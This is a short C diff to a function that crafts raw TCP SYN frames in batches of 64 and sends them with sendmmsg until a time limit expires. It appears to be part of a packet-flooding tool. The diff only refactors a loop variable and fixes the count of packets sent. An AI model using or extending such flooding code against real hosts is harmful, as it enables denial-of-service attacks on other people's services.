@@ -217,17 +217,18 @@ static int syns(long ms, const char *ip, long port, long flags)
 	struct timespec t;
 	uint32_t i = 0;
 	long sent = 0, end = 0;
+	int k;
 
 	if (s < 0 || inet_pton(AF_INET, ip, &a.sin_addr) != 1)
 		return 1;
-	for (int k = 0; k < 64; k++) {
+	for (k = 0; k < 64; k++) {
 		v[k] = (struct iovec){frame[k], 40};
 		m[k].msg_hdr = (struct msghdr){.msg_iov = &v[k], .msg_iovlen = 1};
 		m[k].msg_hdr.msg_name = &a;
 		m[k].msg_hdr.msg_namelen = sizeof(a);
 	}
 	do {
-		for (int k = 0; k < 64; k++) {
+		for (k = 0; k < 64; k++) {
 			uint8_t *f = frame[k], *tcp = f + 20;
 			uint32_t x = ++i * 2654435761u;
 
@@ -252,8 +253,9 @@ static int syns(long ms, const char *ip, long port, long flags)
 			tcp[14] = 4;
 			fold_to(tcp + 16, sum16(f + 12, 28) + 6 + 20);
 		}
-		if (sendmmsg(s, m, 64, 0) > 0)
-			sent += 64;
+		k = sendmmsg(s, m, 64, 0);
+		if (k > 0)
+			sent += k;
 		clock_gettime(CLOCK_MONOTONIC, &t);
 		if (!end)
 			end = t.tv_sec * 1000 + t.tv_nsec / 1000000 + ms;
